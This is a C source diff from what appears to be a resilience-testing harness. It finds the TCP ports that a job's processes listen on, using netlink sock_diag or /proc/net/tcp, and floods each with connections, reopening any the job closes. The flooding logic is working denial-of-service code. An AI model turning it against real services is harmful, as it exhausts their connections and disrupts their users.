@@ -18,7 +18,11 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/inet_diag.h>
+#include <linux/netlink.h>
+#include <linux/sock_diag.h>
 #include <netinet/in.h>
+#include <netinet/tcp.h>
 #include <poll.h>
 #include <pthread.h>
 #include <signal.h>
@@ -169,41 +173,125 @@ static int socket_inodes(pid_t pid, unsigned long *inodes, int cap)
     return n;
 }
 
-/* Adds every port the ranks listen on that is not known yet; returns how many were added. */
-static int scan_ports(void)
+/* The same from /proc/net/tcp, where netlink is not allowed. */
+static int proc_net_listeners(uint16_t *ports, unsigned long *inodes, int cap)
 {
-    static unsigned long inodes[65536];
-    int ninodes = 0;
-    for (int r = 0; r < NRANKS; r++)
-        if (att.pids[r] > 0)
-            ninodes += socket_inodes(att.pids[r], inodes + ninodes,
-                                     (int)(sizeof inodes / sizeof *inodes) - ninodes);
     FILE *f = fopen("/proc/net/tcp", "r");
     if (f == NULL) return 0;
     char line[512];
-    int added = 0;
-    while (fgets(line, sizeof line, f) != NULL) {
+    int n = 0;
+    while (n < cap && fgets(line, sizeof line, f) != NULL) {
         unsigned ip, port, st;
         unsigned long ino;
         if (sscanf(line, " %*d: %x:%x %*x:%*x %x %*x:%*x %*x:%*x %*x %*d %*d %lu", &ip, &port,
-                   &st, &ino) != 4 || st != 0x0A)
-            continue;
-        bool ours = false;
-        for (int i = 0; i < ninodes && !ours; i++) ours = inodes[i] == ino;
-        if (!ours) continue;
-        int n = atomic_load(&att.nports);
-        bool known = false;
-        for (int i = 0; i < n && !known; i++) known = att.ports[i].port == port;
-        if (known || n == MAX_PORTS) continue;
-        struct port *p = &att.ports[n];
-        p->port = (uint16_t)port;
-        p->fds = malloc((size_t)att.conns * sizeof *p->fds);
-        for (int i = 0; i < att.conns; i++) p->fds[i] = open_conn(p->port, kind_of(i));
-        atomic_store(&att.nports, n + 1);
-        added++;
+                   &st, &ino) == 4 && st == 0x0A) {
+            ports[n] = (uint16_t)port;
+            inodes[n++] = ino;
+        }
     }
     fclose(f);
-    return added;
+    return n;
+}
+
+/* The IPv4 TCP sockets in state LISTEN on this host (port and inode each), from the kernel's
+ * sock_diag netlink interface, which filters by state itself: reading /proc/net/tcp instead
+ * costs tens of milliseconds once the attack's own thousands of connections are in it, and a
+ * scan every few milliseconds would take a whole core from the job on a small machine, which
+ * an attacker on another host does not. Returns how many, or -1 when netlink is unavailable. */
+static int listening_sockets(uint16_t *ports, unsigned long *inodes, int cap)
+{
+    int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
+    if (fd < 0) return -1;
+    struct {
+        struct nlmsghdr nlh;
+        struct inet_diag_req_v2 req;
+    } msg = {
+        .nlh = {.nlmsg_len = sizeof msg, .nlmsg_type = SOCK_DIAG_BY_FAMILY,
+                .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
+        .req = {.sdiag_family = AF_INET, .sdiag_protocol = IPPROTO_TCP,
+                .idiag_states = 1u << TCP_LISTEN},
+    };
+    if (send(fd, &msg, sizeof msg, 0) != (ssize_t)sizeof msg) {
+        close(fd);
+        return -1;
+    }
+    int n = 0;
+    static char buf[32768] __attribute__((aligned(NLMSG_ALIGNTO)));
+    for (bool done = false; !done;) {
+        ssize_t len = recv(fd, buf, sizeof buf, 0);
+        if (len <= 0) {
+            n = -1;
+            break;
+        }
+        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)len);
+             h = NLMSG_NEXT(h, len)) {
+            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
+                if (h->nlmsg_type == NLMSG_ERROR) n = -1;
+                done = true;
+                break;
+            }
+            const struct inet_diag_msg *m = NLMSG_DATA(h);
+            if (n < cap) {
+                ports[n] = ntohs(m->id.idiag_sport);
+                inodes[n++] = m->idiag_inode;
+            }
+        }
+    }
+    close(fd);
+    return n;
+}
+
+/* Whether `ino` is a socket of one of the ranks. */
+static bool rank_socket(unsigned long ino)
+{
+    static unsigned long inodes[65536];
+    for (int r = 0; r < NRANKS; r++) {
+        if (att.pids[r] <= 0) continue;
+        int n = socket_inodes(att.pids[r], inodes, (int)(sizeof inodes / sizeof *inodes));
+        for (int i = 0; i < n; i++)
+            if (inodes[i] == ino) return true;
+    }
+    return false;
+}
+
+/* Floods port `port` with att.conns connections. */
+static void add_port(uint16_t port)
+{
+    int n = atomic_load(&att.nports);
+    for (int i = 0; i < n; i++)
+        if (att.ports[i].port == port) return;
+    if (n == MAX_PORTS) return;
+    struct port *p = &att.ports[n];
+    p->port = port;
+    p->fds = malloc((size_t)att.conns * sizeof *p->fds);
+    for (int i = 0; i < att.conns; i++) p->fds[i] = open_conn(p->port, kind_of(i));
+    atomic_store(&att.nports, n + 1);
+}
+
+/* Adds every port the ranks listen on that is not known yet. Listening sockets already judged
+ * are remembered (by inode), so the ranks' fd tables, which the attack fills, are read only
+ * when a new listener appears; the verdicts are forgotten when the ranks change, since a rank
+ * may listen before its pid is recorded. */
+static void scan_ports(void)
+{
+    enum { MAX_LISTENERS = 4096 };
+    static uint16_t ports[MAX_LISTENERS];
+    static unsigned long inodes[MAX_LISTENERS], judged[MAX_LISTENERS];
+    static int njudged;
+    static pid_t judged_for[NRANKS];
+    if (memcmp(judged_for, att.pids, sizeof judged_for) != 0) {
+        memcpy(judged_for, att.pids, sizeof judged_for);
+        njudged = 0;
+    }
+    int n = listening_sockets(ports, inodes, MAX_LISTENERS);
+    if (n < 0) n = proc_net_listeners(ports, inodes, MAX_LISTENERS);
+    for (int i = 0; i < n; i++) {
+        bool seen = false;
+        for (int k = 0; k < njudged && !seen; k++) seen = judged[k] == inodes[i];
+        if (seen) continue;
+        if (rank_socket(inodes[i])) add_port(ports[i]);
+        if (njudged < MAX_LISTENERS) judged[njudged++] = inodes[i];
+    }
 }
 
 /* Reopens the connections of port p that the job closed. */
